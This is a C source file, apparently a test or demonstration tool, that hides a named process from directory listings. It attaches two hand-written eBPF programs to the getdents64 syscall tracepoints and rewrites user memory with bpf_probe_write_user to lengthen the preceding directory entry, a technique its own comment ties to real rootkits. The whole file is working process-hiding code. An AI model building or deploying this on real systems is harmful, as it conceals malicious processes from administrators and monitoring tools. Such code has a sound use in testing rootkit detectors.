// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * bpf-hide PID: removes PID from the results of getdents64(), by two BPF programs at its
 * tracepoints, until it is killed. Prints "ready" when they are attached. Like some real rootkits
 * it lengthens the entry before. A process that is the first entry of a result stays visible.
 */
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/perf_event.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <unistd.h>

#define INSN(c, d, s, o, i) \
	{ \
		.code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (i) \
	}
#define MOV(d, s) INSN(BPF_ALU64 | BPF_MOV | BPF_X, d, s, 0, 0)
#define MOVI(d, i) INSN(BPF_ALU64 | BPF_MOV | BPF_K, d, 0, 0, i)
#define ADD(d, s) INSN(BPF_ALU64 | BPF_ADD | BPF_X, d, s, 0, 0)
#define ADDI(d, i) INSN(BPF_ALU64 | BPF_ADD | BPF_K, d, 0, 0, i)
#define LOAD(size, d, s, o) INSN(BPF_LDX | BPF_MEM | (size), d, s, o, 0)
#define STORE(size, d, o, s) INSN(BPF_STX | BPF_MEM | (size), d, s, o, 0)
#define CALL(f) INSN(BPF_JMP | BPF_CALL, 0, 0, 0, f)
#define JMP(op, d, s, o) INSN(BPF_JMP | (op) | BPF_X, d, s, o, 0)
#define JMPI(op, d, i, o) INSN(BPF_JMP | (op) | BPF_K, d, 0, o, i)
#define GOTO(o) INSN(BPF_JMP | BPF_JA, 0, 0, o, 0)
#define MAP(d, fd) INSN(BPF_LD | BPF_DW | BPF_IMM, d, BPF_PSEUDO_MAP_FD, 0, fd), INSN(0, 0, 0, 0, 0)
/* A jump target. A jump's offset is its label's number until resolve() replaces it. */
#define LABEL(l) INSN(0xff, 0, 0, 0, l)
#define EXIT INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)
enum { OUT = 1, LOOP, NEXT, NR_LABELS };
enum { R0, R1, R2, R3, R4, R5, R6, R7, R8, R9, FP };

/* Offsets at a tracepoint: arguments follow the call's number; the result is at the first one's. */
#define TP_ARG(n) (16 + 8 * (n))
#define TP_RET 16
/* Entries to search in one result. In struct linux_dirent64 d_reclen is at 16, d_name at 19. */
#define ENTRIES 500

static long bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

static void die(const char *what)
{
	perror(what);
	exit(1);
}

/* Remove the labels from @code (@nr instructions). Returns the number of instructions left. */
static size_t resolve(struct bpf_insn *code, size_t nr)
{
	size_t at[NR_LABELS] = { 0 }, n = 0;

	for (size_t i = 0; i < nr; i++) {
		if (code[i].code == 0xff)
			at[code[i].imm] = n;
		else
			code[n++] = code[i];
	}
	for (size_t i = 0; i < n; i++)
		if (BPF_CLASS(code[i].code) == BPF_JMP && BPF_OP(code[i].code) != BPF_CALL &&
		    BPF_OP(code[i].code) != BPF_EXIT)
			code[i].off = (int)at[code[i].off] - (int)i - 1;
	return n;
}

static void attach(const char *event, struct bpf_insn *code, size_t nr)
{
	union bpf_attr attr = { .prog_type = BPF_PROG_TYPE_TRACEPOINT };
	struct perf_event_attr perf = { .type = PERF_TYPE_TRACEPOINT, .size = sizeof(perf) };
	char path[128] = "/sys/kernel/tracing/events/syscalls/", id[16] = "";
	int fd, prog;

	attr.insn_cnt = resolve(code, nr);
	attr.insns = (uintptr_t)code;
	attr.license = (uintptr_t) "GPL";
	prog = bpf(BPF_PROG_LOAD, &attr);
	if (prog < 0)
		die("BPF_PROG_LOAD");
	strcat(strcat(path, event), "/id");
	fd = open(path, O_RDONLY);
	if (fd < 0 || read(fd, id, sizeof(id) - 1) <= 0)
		die(path);
	close(fd);
	perf.config = strtoull(id, NULL, 10);
	/* The program belongs to the tracepoint: it runs on every CPU. */
	fd = syscall(SYS_perf_event_open, &perf, -1, 0, -1, 0);
	if (fd < 0 || ioctl(fd, PERF_EVENT_IOC_SET_BPF, prog) ||
	    ioctl(fd, PERF_EVENT_IOC_ENABLE, 0))
		die("perf_event_open");
}

int main(int argc, char **argv)
{
	union bpf_attr attr = {
		.map_type = BPF_MAP_TYPE_HASH,
		.key_size = 8,
		.value_size = 8,
		.max_entries = 256,
	};
	char name[8] = "";
	uint64_t want;
	int map;

	if (argc != 2 || strlen(argv[1]) > 7)
		return 2;
	strcpy(name, argv[1]);
	memcpy(&want, name, 8);
	mount("tracefs", "/sys/kernel/tracing", "tracefs", 0, NULL);
	map = bpf(BPF_MAP_CREATE, &attr);
	if (map < 0)
		die("BPF_MAP_CREATE");

	/* Keep the buffer's address until the call returns. */
	struct bpf_insn enter[] = {
		LOAD(BPF_DW, R6, R1, TP_ARG(1)),
		STORE(BPF_DW, FP, -16, R6),
		CALL(BPF_FUNC_get_current_pid_tgid),
		STORE(BPF_DW, FP, -8, R0),
		MAP(R1, map),
		MOV(R2, FP),
		ADDI(R2, -8),
		MOV(R3, FP),
		ADDI(R3, -16),
		MOVI(R4, 0),
		CALL(BPF_FUNC_map_update_elem),
		MOVI(R0, 0),
		EXIT,
	};
	/*
	 * R6: the entry, R7: the end of the result, R8: the previous entry, R9: entries left. On
	 * the stack: -8 the key, -16 the name, -24 d_reclen, -32 d_reclen of R8, -40 its new
	 * d_reclen.
	 */
	struct bpf_insn leave[] = {
		LOAD(BPF_DW, R7, R1, TP_RET),
		JMPI(BPF_JSLE, R7, 0, OUT),
		CALL(BPF_FUNC_get_current_pid_tgid),
		STORE(BPF_DW, FP, -8, R0),
		MAP(R1, map),
		MOV(R2, FP),
		ADDI(R2, -8),
		CALL(BPF_FUNC_map_lookup_elem),
		JMPI(BPF_JEQ, R0, 0, OUT),
		LOAD(BPF_DW, R6, R0, 0),
		ADD(R7, R6),
		MOVI(R8, 0),
		MOVI(R9, ENTRIES),
		MOVI(R1, 0),
		STORE(BPF_DW, FP, -32, R1),
		STORE(BPF_DW, FP, -40, R1),
		LABEL(LOOP),
		JMP(BPF_JGE, R6, R7, OUT),
		MOVI(R1, 0),
		STORE(BPF_DW, FP, -16, R1),
		STORE(BPF_DW, FP, -24, R1),
		MOV(R1, FP),
		ADDI(R1, -24),
		MOVI(R2, 2),
		MOV(R3, R6),
		ADDI(R3, 16),
		CALL(BPF_FUNC_probe_read_user),
		MOV(R1, FP),
		ADDI(R1, -16),
		MOVI(R2, 8),
		MOV(R3, R6),
		ADDI(R3, 19),
		CALL(BPF_FUNC_probe_read_user_str),
		LOAD(BPF_H, R5, FP, -24),
		JMPI(BPF_JEQ, R5, 0, OUT),
		LOAD(BPF_DW, R1, FP, -16),
		INSN(BPF_LD | BPF_DW | BPF_IMM, R2, 0, 0, (int32_t)want),
		INSN(0, 0, 0, 0, (int32_t)(want >> 32)),
		JMP(BPF_JNE, R1, R2, NEXT),
		JMPI(BPF_JEQ, R8, 0, NEXT),
		LOAD(BPF_DW, R1, FP, -32),
		ADD(R1, R5),
		STORE(BPF_H, FP, -40, R1),
		MOV(R1, R8),
		ADDI(R1, 16),
		MOV(R2, FP),
		ADDI(R2, -40),
		MOVI(R3, 2),
		CALL(BPF_FUNC_probe_write_user),
		GOTO(OUT),
		LABEL(NEXT),
		STORE(BPF_DW, FP, -32, R5),
		MOV(R8, R6),
		ADD(R6, R5),
		ADDI(R9, -1),
		JMPI(BPF_JNE, R9, 0, LOOP),
		LABEL(OUT),
		MOVI(R0, 0),
		EXIT,
	};

	attach("sys_enter_getdents64", enter, sizeof(enter) / sizeof(*enter));
	attach("sys_exit_getdents64", leave, sizeof(leave) / sizeof(*leave));
	puts("ready");
	fflush(stdout);
	pause();
	return 0;
}
